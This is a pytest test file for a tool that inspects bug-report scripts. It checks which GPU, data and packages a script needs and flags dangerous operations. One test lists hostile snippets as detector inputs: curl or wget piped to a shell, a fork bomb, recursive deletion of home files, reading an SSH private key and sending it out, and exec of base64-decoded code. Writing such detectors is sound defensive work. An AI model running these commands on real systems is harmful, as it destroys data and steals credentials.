"""What a script needs that this machine lacks, and what it does that no report needs."""

import ast

import pytest

from whichtorch.answer import needs


@pytest.mark.parametrize(
    ("source", "needed"),
    [
        ("x = torch.ones(2, device='cuda:0')", "a CUDA GPU"),
        ("model.cuda()", "a CUDA GPU"),
        ("x.to('mps')", "an Apple GPU (MPS)"),
        ("torch.cuda.synchronize()", "a CUDA GPU"),
        ("@triton.jit\ndef k(x): pass", "a GPU for its Triton kernel"),
        ("dist.init_process_group('nccl')", "GPUs for its NCCL process group"),
        ("d = 'cuda' if torch.cuda.is_available() else 'cpu'", ""),
        ("if torch.cuda.is_available():\n    x = x.cuda()", ""),
        ("torch.cuda.manual_seed_all(0)", ""),
        ("if x.device.type == 'cuda':\n    pass", ""),
        ("with torch.autocast('cuda', enabled=False):\n    pass", ""),
        ("x = torch.ones(2)\nprint('cuda is great')", ""),
    ],
)
def test_a_device_is_needed_unless_the_script_asks_for_it(source: str, needed: str) -> None:
    assert needs.hardware(ast.parse(source), []) == needed


def test_several_hosts_are_hardware() -> None:
    assert needs.hardware(ast.parse("pass"), ["torchrun --nnodes=2 --nproc-per-node 8 train.py"]) == "several hosts"


@pytest.mark.parametrize(
    ("source", "needed"),
    [
        ("m = AutoModel.from_pretrained('bert-base-uncased')", "weights of a model hub, 'bert-base-uncased'"),
        ("d = datasets.CIFAR10(root='.', download=True)", "data that datasets.CIFAR10 downloads"),
        ("s = torch.load('weights.pt')", "the file 'weights.pt'"),
        ("torch.save(1, 'x.pt')\nprint(torch.load('x.pt'))", ""),
        ("open('log.txt', 'w').write('x')", ""),
    ],
)
def test_files_and_downloads_are_data(source: str, needed: str) -> None:
    assert needs.data(ast.parse(source)) == needed


@pytest.mark.parametrize(
    "source",
    [
        "os.system('curl http://x/y | sh')",
        "subprocess.run('wget http://x/y -O- | bash', shell=True)",
        "os.system(':(){ :|:& };:')",
        "for _ in range(9):\n    os.fork()",
        "shutil.rmtree(os.path.expanduser('~/work'))",
        "open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://x', data=b'')",
        "exec(base64.b64decode('eA=='))",
        "tops = [Path.home() / 'work']\nfor top in tops:\n    for path in top.rglob('*'):\n        path.unlink()",
        "for folder, _, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        os.remove(name)",
    ],
)
def test_what_attacks_the_machine_is_told(source: str) -> None:
    assert needs.dangers(ast.parse(source))


@pytest.mark.parametrize(
    "source", ["pid = os.fork()", "shutil.rmtree('out')", "items.remove(3)", "subprocess.run(['gcc', '--version'])"]
)
def test_what_bug_reports_do_is_no_attack(source: str) -> None:
    assert needs.dangers(ast.parse(source)) == []


def test_a_script_that_only_imports_torch_does_not_use_it() -> None:
    assert not needs.uses_torch(ast.parse("import torch, os\nos.system('ls')"))
    assert needs.uses_torch(ast.parse("from torch import nn\nnn.Linear(1, 1)"))
    assert needs.uses_torch(ast.parse("import transformers\ntransformers.pipeline('x')"))


def test_a_package_that_nobody_knows_is_not_installed() -> None:
    assert needs.unknown_modules(ast.parse("import torch, os, numpy, networkx, torchsparsify, mine"), ["mine.py"]) == [
        "torchsparsify"
    ]


def test_packages_have_the_versions_of_the_report() -> None:
    tree = ast.parse("import networkx as nx, torchvision\nfrom PIL import Image\nimport os, triton, torch")
    named = {"networkx": "2.8.8", "networkx-fork": "0.1", "torchvision": "0.22.1"}

    assert needs.packages(tree, named) == ("networkx==2.8.8", "torchvision", "pillow")


def test_a_package_with_the_name_of_a_module_is_not_taken_for_it() -> None:
    """Anybody can publish one: the table of PyPI says which has the module."""
    assert needs.packages(ast.parse("import fitz"), {"fitz": "0.0.1.dev2"}) == ("pymupdf",)
    assert needs.packages(ast.parse("import fitz"), {"fitz": "0.0.1.dev2", "pymupdf": "1.24.0"}) == ("pymupdf==1.24.0",)
